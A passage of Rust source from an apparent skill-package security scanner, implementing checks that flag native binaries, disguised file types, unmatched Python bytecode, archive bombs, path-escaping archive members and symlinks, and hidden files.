//! Security family: packaging. What a skill ships besides text: native binaries,
//! files whose content is not what their extension says, Python bytecode without
//! (or not matching) its source, archives (listed in memory, never extracted),
//! symlinks that leave the skill, executable bits on documents, and hidden files.
//!
//! Everything here works from the raw bytes of each file (`SecCx::raw`) or from the
//! inventory (`Cx::files`, which also lists symlinks and files over the size limit).

pub mod archive;
pub mod pyc;

use std::collections::{BTreeMap, HashMap};
use std::sync::LazyLock;

use regex::Regex;

use crate::finding::Severity;
use crate::inventory::{FileEntry, FileKind, LinkState};
use crate::rules::ids::CONTENT_NOT_INSPECTED;
use crate::security::model::{Lang, SecCx};
use crate::text::{sanitize_line, truncate};
use archive::{Bound, Issue, Listing, MemberKind};
use pyc::{Binding, HeaderError};

pub const BINARY_EXECUTABLE: &str = "binary-executable";
pub const FILE_EXTENSION_MISMATCH: &str = "file-extension-mismatch";
pub const BYTECODE_WITHOUT_SOURCE: &str = "bytecode-without-source";
pub const BYTECODE_SOURCE_MISMATCH: &str = "bytecode-source-mismatch";
pub const ARCHIVE_UNSAFE_MEMBER: &str = "archive-unsafe-member";
pub const ARCHIVE_BOMB: &str = "archive-bomb";
pub const ARCHIVE_CONTAINS_EXECUTABLE: &str = "archive-contains-executable";
pub const ARCHIVE_BUNDLED: &str = "archive-bundled";
pub const ARCHIVE_UNREADABLE: &str = "archive-unreadable";
pub const ARCHIVE_TOO_MANY_MEMBERS: &str = "archive-too-many-members";
pub const SYMLINK_ESCAPES_SKILL: &str = "symlink-escapes-skill";
pub const EXECUTABLE_NON_SCRIPT: &str = "executable-non-script";
pub const HIDDEN_FILE: &str = "hidden-file";
pub const HIDDEN_FILE_WITH_CODE: &str = "hidden-file-with-code";

/// Rule ids this module emits.
pub const RULES: &[&str] = &[
    BINARY_EXECUTABLE,
    FILE_EXTENSION_MISMATCH,
    BYTECODE_WITHOUT_SOURCE,
    BYTECODE_SOURCE_MISMATCH,
    ARCHIVE_UNSAFE_MEMBER,
    ARCHIVE_BOMB,
    ARCHIVE_CONTAINS_EXECUTABLE,
    ARCHIVE_BUNDLED,
    ARCHIVE_UNREADABLE,
    ARCHIVE_TOO_MANY_MEMBERS,
    SYMLINK_ESCAPES_SKILL,
    EXECUTABLE_NON_SCRIPT,
    HIDDEN_FILE,
    HIDDEN_FILE_WITH_CODE,
];

/// Declared uncompressed size from which a high compression ratio counts as a bomb.
const BOMB_MIN_DECLARED: u64 = 16 << 20;
/// Compression ratio (declared uncompressed : packed) above which an archive is a bomb.
const BOMB_RATIO: u64 = 100;
/// Members (nested archives included) above which an archive holds more than a skill needs
/// (`archive-too-many-members`): the archives of real skills hold 1 to 49.
pub const MANY_MEMBERS: u64 = 1_000;
/// Names listed in one message before "and N more".
const SHOWN: usize = 5;

pub fn check(scx: &mut SecCx<'_, '_>) {
    let mut out: Vec<Emit> = Vec::new();
    let mut listed: Vec<&str> = Vec::new();
    for rf in &scx.raw {
        let fe = rf.entry;
        let path = fe.path.as_str();
        let b = rf.bytes;
        if fe.kind == FileKind::Entry {
            continue;
        }
        let exe = executable(b);
        if let Some(desc) = &exe {
            out.push(Emit::new(
                BINARY_EXECUTABLE,
                path,
                format!(
                    "`{}` is a native executable ({desc}). Its code cannot be reviewed as text and runs with the user's privileges if the agent or a script starts it. Ship the source and build it at install time, or remove the binary.",
                    show(path)
                ),
                "exe".into(),
            ));
        }
        extension_mismatch(path, b, exe.as_deref(), &mut out);
        if is_pyc(path) {
            bytecode(scx, fe, b, &mut out);
        }
        if let Some(l) = archive::list_with(b, notable_member) {
            archive_findings(path, &l, &mut out);
            listed.push(path);
        } else if let Some(at) = embedded_zip(b) {
            // A zip behind leading bytes: extractors (unzip, bsdtar, 7-Zip) open it, a
            // reviewer sees whatever the first bytes say. Listed like any zip, and high.
            if let Some(l) = archive::list_with(&b[at..], notable_member) {
                archive_findings(path, &l, &mut out);
                out.push(
                    Emit::new(
                        ARCHIVE_BUNDLED,
                        path,
                        format!(
                            "`{}` hides a zip archive after {at} leading bytes: extractors open it while the file passes for {}. Ship the files unpacked, or remove the appended archive.",
                            show(path),
                            detect(b).map_or("something else", Format::name)
                        ),
                        "embedded-zip".into(),
                    )
                    .severity(Severity::High),
                );
                listed.push(path);
            }
        } else if fe.kind != FileKind::Archive
            && let Some(fmt) = unlisted_archive_format(b)
        {
            // Recognised by its bytes, whatever its name says: nothing in it was read.
            out.push(not_listed(
                path,
                fmt,
                b.len() as u64,
                " (by its first bytes, whatever its name)",
            ));
        }
    }
    // Archives that were not listed: a format skillguard does not open, or too large to read.
    for fe in scx.cx.files {
        if fe.kind != FileKind::Archive
            || fe.symlink.is_some()
            || listed.contains(&fe.path.as_str())
        {
            continue;
        }
        let bytes = scx
            .raw
            .iter()
            .find(|r| r.entry.path == fe.path)
            .map(|r| r.bytes);
        let why = match bytes {
            None => "it is over the size limit and was not read (see `file-too-large`)",
            Some(b) => match unlisted_archive_format(b) {
                Some(_) => "skillguard does not list this format",
                // An archive extension on content that is no archive: `file-extension-mismatch`.
                None => continue,
            },
        };
        let fmt = bytes.and_then(unlisted_archive_format).unwrap_or("archive");
        if bytes.is_some() {
            // Read, but in a format skillguard does not list: nothing in it was inspected.
            out.push(not_listed(&fe.path, fmt, fe.size, ""));
        }
        out.push(Emit::new(
            ARCHIVE_BUNDLED,
            &fe.path,
            format!(
                "`{}` is a bundled {fmt} whose members were not listed ({why}); its content is invisible to reviewers and to every other rule. Ship the files unpacked in the skill instead.",
                show(&fe.path)
            ),
            "bundled".into(),
        ));
    }
    let bytes_of: HashMap<&str, &[u8]> = scx
        .raw
        .iter()
        .map(|r| (r.entry.path.as_str(), r.bytes))
        .collect();
    symlinks(scx, &mut out);
    executable_bits(scx, &bytes_of, &mut out);
    hidden(scx, &bytes_of, &mut out);
    for e in out {
        scx.emit_file(e.rule, &e.path, e.message, &e.anchor);
        if let (Some(s), Some(f)) = (e.sev, scx.cx.findings.last_mut()) {
            crate::security::severity::emitted(f, s);
        }
    }
}

/// `content-not-inspected` for an archive in a format skillguard does not list (`how`: how
/// it was recognised, said after its size).
fn not_listed(path: &str, fmt: &str, size: u64, how: &str) -> Emit {
    Emit::new(
        CONTENT_NOT_INSPECTED,
        path,
        format!(
            "`{}` is {} of {size} bytes{how}, a format skillguard does not list (it lists zip, tar, gzip and tar.gz): none of its members was inspected by any rule. Ship the files unpacked, or lower this finding for this path in the operator's `.skillguard.toml` with a reason.",
            show(path),
            crate::text::with_article(fmt),
        ),
        format!("{}format", crate::rules::ids::UNINSPECTED_ANCHOR),
    )
}

/// A finding waiting to be emitted (collected while `scx.raw` is borrowed).
struct Emit {
    rule: &'static str,
    path: String,
    message: String,
    anchor: String,
    sev: Option<Severity>,
}

impl Emit {
    fn new(rule: &'static str, path: &str, message: String, anchor: String) -> Self {
        Emit {
            rule,
            path: path.to_owned(),
            message,
            anchor,
            sev: None,
        }
    }

    fn severity(mut self, s: Severity) -> Self {
        self.sev = Some(s);
        self
    }
}

/// A path or name from scanned content, safe to print.
fn show(s: &str) -> String {
    truncate(&sanitize_line(s), 120).into_owned()
}

fn ext_of(path: &str) -> String {
    let name = path.rsplit('/').next().unwrap_or(path);
    match name.rfind('.') {
        Some(i) if i > 0 => name[i + 1..].to_ascii_lowercase(),
        _ => String::new(),
    }
}

fn list_names(names: &[String]) -> String {
    let mut shown: Vec<String> = names.iter().take(SHOWN).cloned().collect();
    if names.len() > SHOWN {
        shown.push(format!("and {} more", names.len() - SHOWN));
    }
    shown.join(", ")
}

// ---------------------------------------------------------------------------
// Magic numbers
// ---------------------------------------------------------------------------

/// Content formats recognised by magic number.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Format {
    Elf,
    Pe,
    MachO,
    Png,
    Jpeg,
    Gif,
    Webp,
    Bmp,
    Ico,
    Tiff,
    Pdf,
    Zip,
    Gzip,
    SevenZip,
    Bzip2,
    Xz,
    Rar,
    Tar,
    Wasm,
    Ole,
    Woff,
    Woff2,
    Otf,
    Ttf,
    Sqlite,
    Mp4,
    Pyc,
    JavaClass,
    /// Archives and compressed streams skillguard recognises but does not list.
    Zstd,
    Lz4,
    Lzip,
    Compress,
    Lzma,
    Cpio,
    Ar,
    Rpm,
    Cab,
    Iso,
    Squashfs,
    Dmg,
}

impl Format {
    fn name(self) -> &'static str {
        match self {
            Format::Elf => "an ELF executable",
            Format::Pe => "a Windows PE executable",
            Format::MachO => "a Mach-O executable",
            Format::Png => "a PNG image",
            Format::Jpeg => "a JPEG image",
            Format::Gif => "a GIF image",
            Format::Webp => "a WebP image",
            Format::Bmp => "a BMP image",
            Format::Ico => "an icon",
            Format::Tiff => "a TIFF image",
            Format::Pdf => "a PDF document",
            Format::Zip => "a zip archive",
            Format::Gzip => "a gzip stream",
            Format::SevenZip => "a 7-Zip archive",
            Format::Bzip2 => "a bzip2 stream",
            Format::Xz => "an xz stream",
            Format::Rar => "a RAR archive",
            Format::Tar => "a tar archive",
            Format::Wasm => "a WebAssembly module",
            Format::Ole => "an OLE compound file (legacy Office document or MSI)",
            Format::Woff | Format::Woff2 | Format::Otf | Format::Ttf => "a font",
            Format::Sqlite => "an SQLite database",
            Format::Mp4 => "an MP4/QuickTime media file",
            Format::Pyc => "Python bytecode",
            Format::JavaClass => "a Java class file",
            Format::Zstd => "a zstd stream",
            Format::Lz4 => "an LZ4 stream",
            Format::Lzip => "an lzip stream",
            Format::Compress => "a Unix compress (.Z) stream",
            Format::Lzma => "an LZMA stream",
            Format::Cpio => "a cpio archive",
            Format::Ar => "an ar archive (or Debian package)",
            Format::Rpm => "an RPM package",
            Format::Cab => "a Windows cabinet",
            Format::Iso => "an ISO 9660 disk image",
            Format::Squashfs => "a SquashFS image",
            Format::Dmg => "an Apple disk image",
        }
    }

    fn is_executable(self) -> bool {
        matches!(self, Format::Elf | Format::Pe | Format::MachO)
    }

    fn is_image(self) -> bool {
        matches!(
            self,
            Format::Png
                | Format::Jpeg
                | Format::Gif
                | Format::Webp
                | Format::Bmp
                | Format::Ico
                | Format::Tiff
        )
    }
}

fn u16_at(b: &[u8], at: usize, big: bool) -> Option<u16> {
    let s: [u8; 2] = b.get(at..at + 2)?.try_into().ok()?;
    Some(if big {
        u16::from_be_bytes(s)
    } else {
        u16::from_le_bytes(s)
    })
}

fn u32_at(b: &[u8], at: usize, big: bool) -> Option<u32> {
    let s: [u8; 4] = b.get(at..at + 4)?.try_into().ok()?;
    Some(if big {
        u32::from_be_bytes(s)
    } else {
        u32::from_le_bytes(s)
    })
}

/// The PE header offset when `b` is an MZ file with a real `PE\0\0` header.
fn pe_offset(b: &[u8]) -> Option<usize> {
    if !b.starts_with(b"MZ") {
        return None;
    }
    let off = u32_at(b, 0x3c, false)? as usize;
    (off >= 0x40 && b.get(off..off + 4)? == b"PE\0\0").then_some(off)
}

const MACHO_MAGICS: [[u8; 4]; 4] = [
    [0xfe, 0xed, 0xfa, 0xce],
    [0xfe, 0xed, 0xfa, 0xcf],
    [0xce, 0xfa, 0xed, 0xfe],
    [0xcf, 0xfa, 0xed, 0xfe],
];

/// Number of architectures of a fat Mach-O (`CAFEBABE` is shared with Java class
/// files, whose version makes the count ≥ 45; `file(1)` uses the same cut).
fn fat_count(b: &[u8]) -> Option<u32> {
    if !(b.starts_with(&[0xca, 0xfe, 0xba, 0xbe]) || b.starts_with(&[0xca, 0xfe, 0xba, 0xbf])) {
        return None;
    }
    let n = u32_at(b, 4, true)?;
    (1..20).contains(&n).then_some(n)
}

/// The content format by magic number (strong magics only: a text file cannot
/// start with these by accident).
pub fn detect(b: &[u8]) -> Option<Format> {
    let starts = |m: &[u8]| b.starts_with(m);
    Some(
        if starts(b"\x7fELF") && b.len() >= 20 && matches!(b[4], 1 | 2) && matches!(b[5], 1 | 2) {
            Format::Elf
        } else if pe_offset(b).is_some() {
            Format::Pe
        } else if MACHO_MAGICS.iter().any(|m| starts(m)) || fat_count(b).is_some() {
            Format::MachO
        } else if starts(&[0xca, 0xfe, 0xba, 0xbe]) {
            Format::JavaClass
        } else if starts(b"\x89PNG\r\n\x1a\n") {
            Format::Png
        } else if starts(&[0xff, 0xd8, 0xff]) {
            Format::Jpeg
        } else if starts(b"GIF87a") || starts(b"GIF89a") {
            Format::Gif
        } else if starts(b"RIFF") && b.get(8..12) == Some(b"WEBP".as_slice()) {
            Format::Webp
        } else if starts(b"%PDF-") {
            Format::Pdf
        } else if starts(b"PK\x03\x04") || starts(b"PK\x05\x06") || starts(b"PK\x07\x08") {
            Format::Zip
        } else if starts(&[0x1f, 0x8b, 0x08]) {
            Format::Gzip
        } else if starts(b"7z\xbc\xaf\x27\x1c") {
            Format::SevenZip
        } else if starts(b"BZh") && b.get(3).is_some_and(|c| (b'1'..=b'9').contains(c)) {
            Format::Bzip2
        } else if starts(&[0xfd, b'7', b'z', b'X', b'Z', 0]) {
            Format::Xz
        } else if starts(b"Rar!\x1a\x07") {
            Format::Rar
        } else if starts(b"\0asm") {
            Format::Wasm
        } else if starts(&[0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]) {
            Format::Ole
        } else if starts(b"wOFF") {
            Format::Woff
        } else if starts(b"wOF2") {
            Format::Woff2
        } else if starts(b"OTTO") {
            Format::Otf
        } else if starts(b"SQLite format 3\0") {
            Format::Sqlite
        } else if b.get(4..8) == Some(b"ftyp".as_slice()) {
            Format::Mp4
        } else if b.get(257..262) == Some(b"ustar".as_slice()) {
            Format::Tar
        } else if starts(&[0x28, 0xb5, 0x2f, 0xfd]) {
            Format::Zstd
        } else if starts(&[0x04, 0x22, 0x4d, 0x18]) {
            Format::Lz4
        } else if starts(b"LZIP") && b.get(4).is_some_and(|v| *v <= 1) {
            Format::Lzip
        } else if starts(&[0x1f, 0x9d]) && b.get(2).is_some_and(|f| f & 0x1f >= 9 && f & 0x1f <= 16)
        {
            Format::Compress
        } else if (starts(b"070701") || starts(b"070702") || starts(b"070707"))
            && b.get(6..14)
                .is_some_and(|h| h.iter().all(u8::is_ascii_hexdigit))
            || binary_cpio(b)
        {
            Format::Cpio
        } else if lzma_alone(b) {
            Format::Lzma
        } else if starts(b"!<arch>\n") {
            Format::Ar
        } else if starts(&[0xed, 0xab, 0xee, 0xdb]) {
            Format::Rpm
        } else if starts(b"MSCF\0\0\0\0") {
            Format::Cab
        } else if starts(b"hsqs") || starts(b"sqsh") {
            Format::Squashfs
        } else if b.get(32769..32774) == Some(b"CD001".as_slice()) {
            Format::Iso
        } else if b.len() >= 512 && b[b.len() - 512..].starts_with(b"koly") {
            Format::Dmg
        } else {
            return None;
        },
    )
}

/// Weak magics: only used to confirm what an extension promises.
fn confirms(f: Format, b: &[u8]) -> bool {
    match f {
        Format::Bmp => b.starts_with(b"BM"),
        Format::Ico => b.starts_with(&[0, 0, 1, 0]) || b.starts_with(&[0, 0, 2, 0]),
        Format::Tiff => b.starts_with(b"II*\0") || b.starts_with(b"MM\0*"),
        Format::Ttf => b.starts_with(&[0, 1, 0, 0]) || b.starts_with(b"true"),
        Format::Pdf => memchr::memmem::find(&b[..b.len().min(1024)], b"%PDF-").is_some(),
        Format::Tar => archive::sniff(b) == Some("tar"),
        Format::Pyc => pyc::parse_header(b).is_ok(),
        _ => false,
    }
}

/// What an extension promises, for formats that have a magic number.
fn expected(ext: &str) -> Option<&'static [Format]> {
    use Format::*;
    Some(match ext {
        "png" => &[Png],
        "jpg" | "jpeg" | "jpe" | "jfif" => &[Jpeg],
        "gif" => &[Gif],
        "webp" => &[Webp],
        "bmp" => &[Bmp],
        "ico" => &[Ico, Png],
        "tif" | "tiff" => &[Tiff],
        "pdf" => &[Pdf],
        "zip" | "jar" | "war" | "whl" | "egg" | "docx" | "xlsx" | "pptx" | "docm" | "xlsm"
        | "odt" | "ods" | "odp" | "epub" | "apk" | "nupkg" | "vsix" | "xpi" | "skill" => &[Zip],
        "gz" | "tgz" => &[Gzip],
        "7z" => &[SevenZip],
        "bz2" | "tbz2" => &[Bzip2],
        "xz" | "txz" => &[Xz],
        "rar" => &[Rar],
        "tar" => &[Tar],
        "zst" | "tzst" => &[Zstd],
        "lz4" => &[Lz4],
        "lz" => &[Lzip],
        "z" => &[Compress],
        "cpio" => &[Cpio],
        "deb" | "a" | "ar" => &[Ar],
        "rpm" => &[Rpm],
        "cab" => &[Cab],
        "iso" => &[Iso],
        "squashfs" | "sqsh" => &[Squashfs],
        "dmg" => &[Dmg],
        "wasm" => &[Wasm],
        "doc" | "xls" | "ppt" | "msi" => &[Ole],
        "woff" => &[Woff],
        "woff2" => &[Woff2],
        "otf" | "ttf" => &[Otf, Ttf],
        "sqlite" | "sqlite3" => &[Sqlite],
        "mp4" | "m4a" | "m4v" | "mov" => &[Mp4],
        "exe" | "dll" | "sys" | "scr" | "pyd" => &[Pe],
        "dylib" => &[MachO],
        "class" => &[JavaClass],
        "pyc" | "pyo" => &[Pyc],
        _ => return None,
    })
}

/// Extensions of text and documents: binary content behind them is a disguise.
const TEXT_EXT: &[&str] = &[
    "md", "markdown", "mdx", "txt", "text", "rst", "json", "jsonl", "yaml", "yml", "toml", "csv",
    "tsv", "xml", "html", "htm", "css", "svg", "ini", "cfg", "conf", "log", "py", "sh", "bash",
    "js", "mjs", "cjs", "ts", "ps1", "rb", "pl", "php", "lua", "bat", "cmd",
];

/// Extensions of documents and images: a script behind them is a disguise.
fn is_document_ext(ext: &str) -> bool {
    expected(ext).is_some_and(|fs| {
        fs.iter().all(|f| {
            !f.is_executable() && !matches!(f, Format::Pyc | Format::JavaClass | Format::Wasm)
        })
    }) || TEXT_EXT.contains(&ext) && !Lang::of_path(&format!("x.{ext}"), b"").is_code()
}

fn has_shebang(b: &[u8]) -> bool {
    b.starts_with(b"#!/") || b.starts_with(b"#! /")
}

/// A Git LFS pointer stands in for any binary in a checkout without LFS.
fn is_lfs_pointer(b: &[u8]) -> bool {
    b.starts_with(b"version https://git-lfs.github.com/spec/")
}

/// `ELF 64-bit x86-64 executable`, `PE32+ x86-64`, `Mach-O universal (2 architectures)`...
pub fn executable(b: &[u8]) -> Option<String> {
    match detect(b)? {
        Format::Elf => {
            let bits = if b[4] == 2 { "64-bit" } else { "32-bit" };
            let big = b[5] == 2;
            let kind = match u16_at(b, 16, big) {
                Some(1) => "relocatable object",
                Some(2) => "executable",
                Some(3) => "shared object or PIE executable",
                Some(4) => "core dump",
                _ => "file",
            };
            let arch = match u16_at(b, 18, big) {
                Some(3) => " x86",
                Some(0x3e) => " x86-64",
                Some(0x28) => " ARM",
                Some(0xb7) => " AArch64",
                Some(0xf3) => " RISC-V",
                Some(8) => " MIPS",
                Some(0x14) => " PowerPC",
                Some(0x15) => " PowerPC64",
                Some(0x16) => " S/390",
                _ => "",
            };
            Some(format!("ELF {bits}{arch} {kind}"))
        }
        Format::Pe => {
            let off = pe_offset(b)?;
            let arch = match u16_at(b, off + 4, false) {
                Some(0x14c) => " x86",
                Some(0x8664) => " x86-64",
                Some(0xaa64) => " ARM64",
                Some(0x1c0 | 0x1c4) => " ARM",
                _ => "",
            };
            let dll = u16_at(b, off + 22, false).is_some_and(|c| c & 0x2000 != 0);
            Some(format!(
                "Windows PE{arch} {}",
                if dll { "DLL" } else { "executable" }
            ))
        }
        Format::MachO => {
            if let Some(n) = fat_count(b) {
                return Some(format!("Mach-O universal binary, {n} architecture(s)"));
            }
            let big = b[0] == 0xfe;
            let arch = match u32_at(b, 4, big) {
                Some(7) => " x86",
                Some(0x0100_0007) => " x86-64",
                Some(12) => " ARM",
                Some(0x0100_000c) => " arm64",
                Some(18) => " PowerPC",
                _ => "",
            };
            Some(format!("Mach-O{arch}"))
        }
        _ => None,
    }
}

fn extension_mismatch(path: &str, b: &[u8], exe: Option<&str>, out: &mut Vec<Emit>) {
    let ext = ext_of(path);
    if ext.is_empty() || b.is_empty() || is_lfs_pointer(b) {
        return;
    }
    let found = detect(b);
    let what = |f: Format| {
        exe.map_or_else(
            || f.name().to_owned(),
            |d| format!("a native executable ({d})"),
        )
    };
    let finding = match (expected(&ext), found) {
        (Some(exp), Some(f)) => {
            let ok = exp.contains(&f)
                || (f.is_image() && exp.iter().any(|e| e.is_image()))
                || exp.iter().any(|e| confirms(*e, b));
            (!ok).then(|| (what(f), f.is_executable()))
        }
        (Some(exp), None) => {
            if exp.iter().any(|e| confirms(*e, b)) {
                None
            } else if has_shebang(b) {
                Some((
                    format!(
                        "a script (`{}`)",
                        show(&String::from_utf8_lossy(
                            b.split(|c| *c == b'\n').next().unwrap_or(b)
                        ))
                    ),
                    is_document_ext(&ext),
                ))
            } else if std::str::from_utf8(&b[..b.len().min(1024)]).is_ok_and(|_| !b.contains(&0)) {
                Some(("text".to_owned(), false))
            } else {
                Some((
                    "binary data without the expected signature".to_owned(),
                    false,
                ))
            }
        }
        (None, Some(f)) if TEXT_EXT.contains(&ext.as_str()) => Some((what(f), f.is_executable())),
        _ => None,
    };
    let Some((content, disguised_code)) = finding else {
        return;
    };
    let high = disguised_code && is_document_ext(&ext) || exe.is_some();
    let e = Emit::new(
        FILE_EXTENSION_MISMATCH,
        path,
        format!(
            "`{}` has a `.{}` extension but its content is {content}{}. Rename the file to what it is, or remove it.",
            show(path),
            show(&ext),
            if high {
                ": code disguised as a document or image escapes review"
            } else {
                ""
            }
        ),
        "ext".into(),
    );
    out.push(if high { e.severity(Severity::High) } else { e });
}

// ---------------------------------------------------------------------------
// Python bytecode
// ---------------------------------------------------------------------------

fn is_pyc(path: &str) -> bool {
    matches!(ext_of(path).as_str(), "pyc" | "pyo")
}

fn bytecode(scx: &SecCx<'_, '_>, fe: &FileEntry, b: &[u8], out: &mut Vec<Emit>) {
    let path = fe.path.as_str();
    let header = match pyc::parse_header(b) {
        Ok(h) => h,
        // Not bytecode at all: `file-extension-mismatch` reports it.
        Err(HeaderError::NotBytecode) => return,
        Err(e) => {
            let why = match e {
                HeaderError::BadFlags(f) => format!("undefined header flags {f:#x}"),
                _ => "a truncated header".to_owned(),
            };
            out.push(Emit::new(
                BYTECODE_WITHOUT_SOURCE,
                path,
                format!(
                    "`{}` is Python bytecode with {why}; bytecode cannot be reviewed. Remove it and ship the `.py` source.",
                    show(path)
                ),
                "pyc".into(),
            ));
            return;
        }
    };
    let version = header
        .version()
        .map_or_else(String::new, |v| format!(" (Python {v})"));
    let Some(src_path) = pyc::source_path(path) else {
        return;
    };
    if !scx.cx.files.iter().any(|f| f.path == src_path) {
        let cached = path.contains("__pycache__/");
        out.push(Emit::new(
            BYTECODE_WITHOUT_SOURCE,
            path,
            format!(
                "`{}` is compiled Python bytecode{version} with no `{}` source in the skill{}. Bytecode cannot be reviewed (and no decompiler is run); remove it and ship the source.",
                show(path),
                show(&src_path),
                if cached {
                    ""
                } else {
                    ": Python imports a `.pyc` next to where the source would be without any source at all"
                }
            ),
            "pyc".into(),
        ));
        return;
    }
    let Some(src_bytes) = scx
        .raw
        .iter()
        .find(|r| r.entry.path == src_path)
        .map(|r| r.bytes)
    else {
        return;
    };
    match header.binding {
        Binding::Hash { hash, checked } => {
            let hashes = pyc::source_hashes(header.raw_magic, src_bytes);
            if !hashes.contains(&hash) {
                out.push(Emit::new(
                    BYTECODE_SOURCE_MISMATCH,
                    path,
                    format!(
                        "`{}` is hash-based bytecode{version} whose source hash does not match `{}`: it was not compiled from the source a reviewer reads{}. Delete the bytecode; Python regenerates it from the source.",
                        show(path),
                        show(&src_path),
                        if checked {
                            ""
                        } else {
                            ", and it is marked unchecked, so Python runs it without looking at the source"
                        }
                    ),
                    "pyc".into(),
                ));
            }
        }
        Binding::Size { size, .. } => {
            let len = src_bytes.len() as u64;
            let crlf = memchr::memmem::find_iter(src_bytes, b"\r\n").count() as u64;
            let lf = memchr::memchr_iter(b'\n', src_bytes).count() as u64;
            // A checkout may have converted line endings since the bytecode was written.
            let plausible = [len, len - crlf, len + (lf - crlf)];
            if !plausible.iter().any(|&n| n as u32 == size) {
                out.push(
                    Emit::new(
                        BYTECODE_SOURCE_MISMATCH,
                        path,
                        format!(
                            "`{}` is timestamp-based bytecode{version} recorded for {} source, but `{}` is {len} bytes: the bytecode was compiled from other code (stale or substituted). Python recompiles a stale timestamp-based file, but the bytecode a reviewer does not read is still shipped; delete it (the recorded mtime is not compared: a checkout resets file times).",
                            show(path),
                            crate::text::with_article(&format!("{size}-byte")),
                            show(&src_path),
                        ),
                        "pyc".into(),
                    )
                    .severity(Severity::Medium),
                );
            }
        }
        Binding::MtimeOnly => {}
    }
}

// ---------------------------------------------------------------------------
// Archives
// ---------------------------------------------------------------------------

/// Office and e-book documents are zips too; they are checked but not reported as bundles.
fn is_document_container(path: &str) -> bool {
    matches!(
        ext_of(path).as_str(),
        "docx" | "xlsx" | "pptx" | "docm" | "xlsm" | "odt" | "ods" | "odp" | "epub"
    )
}

/// The old binary cpio header (magic 070707 as a 16-bit word, either byte order): 26 bytes,
/// then a NUL-terminated name of the declared size. The two-byte magic alone is weak, so the
/// name must be there and printable.
fn binary_cpio(b: &[u8]) -> bool {
    let big = match b.get(..2) {
        Some([0xc7, 0x71]) => false,
        Some([0x71, 0xc7]) => true,
        _ => return false,
    };
    let Some(n) = u16_at(b, 20, big).map(usize::from) else {
        return false;
    };
    (2..=4096).contains(&n)
        && b.get(26..26 + n).is_some_and(|name| {
            name[n - 1] == 0 && name[..n - 1].iter().all(|c| (0x20..0x7f).contains(c))
        })
}

/// An LZMA-alone (`.lzma`) stream: properties byte 0x5d (the default lc/lp/pb), a
/// dictionary size that is a power of two from 4 KiB to 1.5 GiB, and an uncompressed size
/// that is unknown (all ones) or below 1 TiB.
fn lzma_alone(b: &[u8]) -> bool {
    let (Some(&0x5d), Some(dict), Some(size)) = (b.first(), u32_at(b, 1, false), b.get(5..13))
    else {
        return false;
    };
    let size = u64::from_le_bytes(size.try_into().unwrap_or([0; 8]));
    dict.is_power_of_two()
        && (1 << 12..=3 << 29).contains(&dict)
        && (size == u64::MAX || size < 1 << 40)
}

/// Formats recognised but not listed.
fn unlisted_archive_format(b: &[u8]) -> Option<&'static str> {
    match detect(b)? {
        Format::SevenZip => Some("7-Zip archive"),
        Format::Rar => Some("RAR archive"),
        Format::Bzip2 => Some("bzip2 stream"),
        Format::Xz => Some("xz stream"),
        Format::Zstd => Some("zstd stream"),
        Format::Lz4 => Some("LZ4 stream"),
        Format::Lzip => Some("lzip stream"),
        Format::Compress => Some("Unix compress (.Z) stream"),
        Format::Lzma => Some("LZMA stream"),
        Format::Cpio => Some("cpio archive"),
        Format::Ar => Some("ar archive (or Debian package)"),
        Format::Rpm => Some("RPM package"),
        Format::Cab => Some("Windows cabinet"),
        Format::Iso => Some("ISO 9660 disk image"),
        Format::Squashfs => Some("SquashFS image"),
        Format::Dmg => Some("Apple disk image"),
        _ => None,
    }
}

/// Where a zip archive starts inside `b` after leading bytes (a stub, an image, padding),
/// when its end record sits where an extractor looks for it (the last 64 KiB): the offset
/// of its first local header. `None` for a file that is a zip from its first byte.
fn embedded_zip(b: &[u8]) -> Option<usize> {
    if b.starts_with(b"PK") || b.len() < 22 {
        return None;
    }
    let tail = b.len().saturating_sub(65_557);
    memchr::memmem::rfind(&b[tail..], b"PK\x05\x06")?;
    let at = memchr::memmem::find(&b[1..], b"PK\x03\x04")? + 1;
    Some(at)
}

/// Why a member name or link target leaves the extraction folder, if it does.
fn escapes(name: &str) -> Option<&'static str> {
    let n = name.replace('\\', "/");
    let bytes = n.as_bytes();
    if n.starts_with('/') {
        return Some("absolute path");
    }
    if bytes.len() >= 2 && bytes[0].is_ascii_alphabetic() && bytes[1] == b':' {
        return Some("drive-letter path");
    }
    let mut depth: i64 = 0;
    for c in n.split('/') {
        match c {
            "" | "." => {}
            ".." => {
                depth -= 1;
                if depth < 0 {
                    return Some("`..` climbs out of the extraction folder");
                }
            }
            _ => depth += 1,
        }
    }
    None
}

/// Where a symlink member points, relative to the archive root.
fn link_escape(member: &str, target: &str, hard: bool) -> Option<&'static str> {
    if hard {
        return escapes(target);
    }
    let t = target.replace('\\', "/");
    if t.starts_with('/') || escapes(&t) == Some("drive-letter path") {
        return escapes(&t);
    }
    let dir = member.replace('\\', "/");
    let dir = dir
        .trim_end_matches('/')
        .rsplit_once('/')
        .map_or("", |(d, _)| d);
    escapes(&format!("{dir}/{t}")).map(|_| "points outside the extraction folder")
}

const EXE_EXT: &[&str] = &[
    "exe", "dll", "so", "dylib", "scr", "com", "msi", "sys", "pyd", "node", "elf", "appimage",
];
const SCRIPT_EXT: &[&str] = &[
    "py", "sh", "bash", "zsh", "js", "mjs", "cjs", "ts", "ps1", "psm1", "rb", "pl", "php", "lua",
    "bat", "cmd", "fish",
];

/// A member that some archive rule reports or counts: kept past the listing's member bound,
/// so padding an archive with thousands of plain members cannot hide it.
fn notable_member(m: &archive::Member) -> bool {
    let ext = ext_of(&m.name);
    escapes(&m.name).is_some()
        || !matches!(m.kind, MemberKind::File | MemberKind::Dir)
        || executable(&m.head).is_some()
        || has_shebang(&m.head)
        || EXE_EXT.contains(&ext.as_str())
        || SCRIPT_EXT.contains(&ext.as_str())
}

#[derive(Default)]
struct ArchiveFacts {
    members: usize,
    scripts: usize,
    nested: usize,
    unsafe_high: Vec<String>,
    unsafe_medium: Vec<String>,
    exe_high: Vec<String>,
    exe_medium: Vec<String>,
    bomb: Vec<String>,
    malformed: Vec<String>,
    /// Listings stopped at a bound: (where, bound, members left unread, bytes left unread).
    cuts: Vec<(String, Bound, Option<u64>, Option<u64>)>,
}

fn walk(prefix: &str, l: &Listing, f: &mut ArchiveFacts) {
    let declared_mib = l.declared_total >> 20;
    if l.declared_total > archive::MAX_DECLARED {
        f.bomb.push(format!(
            "`{prefix}` declares {declared_mib} MiB uncompressed (cap {} MiB)",
            archive::MAX_DECLARED >> 20
